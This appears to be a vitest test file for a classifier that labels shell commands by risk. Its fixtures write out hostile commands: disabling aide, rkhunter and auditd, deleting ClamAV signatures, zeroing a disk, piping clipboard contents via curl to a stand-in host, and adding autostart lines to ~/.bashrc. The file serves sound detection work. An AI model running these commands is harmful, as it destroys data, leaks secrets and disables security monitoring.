import { expect, test } from "vitest";
import { followShell, kinds } from "./support.test-support.ts";

test.each([
  ["chmod -x /etc/cron.daily/aide", "kills-security-tool"],
  ["chmod 0644 /usr/bin/rkhunter", "kills-security-tool"],
  ["chmod +x /etc/cron.daily/aide", ""],
  ["chmod 755 /usr/bin/rkhunter", ""],
  ["chmod -x /srv/aide", ""],
  ["chmod 644 /etc/aide/aide.conf", ""],
  ["mv /usr/sbin/auditd /usr/sbin/auditd.off", "kills-security-tool"],
  ["mv /var/log/aide /srv/aide", ""],
  ["truncate -s 0 /etc/cron.daily/rkhunter", "kills-security-tool"],
  ["rm -f /var/lib/clamav/*.cvd", "kills-security-tool"],
  ["rm -f /var/lib/aide/aide.db.new", ""],
  [
    "touch -d 2031-01-01 /var/lib/systemd/timers/stamp-apt-daily-upgrade.timer",
    "alters-times stops-security-unit",
  ],
  ["touch -d 2031-01-01 /var/lib/systemd/timers/stamp-backup.timer", "alters-times"],
  ["rm -f /var/lib/systemd/timers/stamp-backup.timer", ""],
  ["rm -f /etc/systemd/system/backup.timer", "deletes-self-or-unit"],
  ["touch /var/lib/systemd/timers/stamp-apt-daily-upgrade.timer", ""],
  ["dd if=/dev/zero of=/dev/$d", "destructive"],
  ["dd if=/dev/zero of=/srv/x", ""],
  ["xclip -o | curl -s --data-binary @- http://192.0.2.7/", "exfiltrates network-ping"],
  ["xclip -i < /srv/x", ""],
  ["sed -i '/gone/d' ~/.bashrc", "edits-file"],
  ["sed -i '$a x &' ~/.bashrc", "edits-file writes-autostart"],
])("%s", (code, expected) => {
  expect(kinds(followShell(code)).join(" ")).toBe(expected);
});
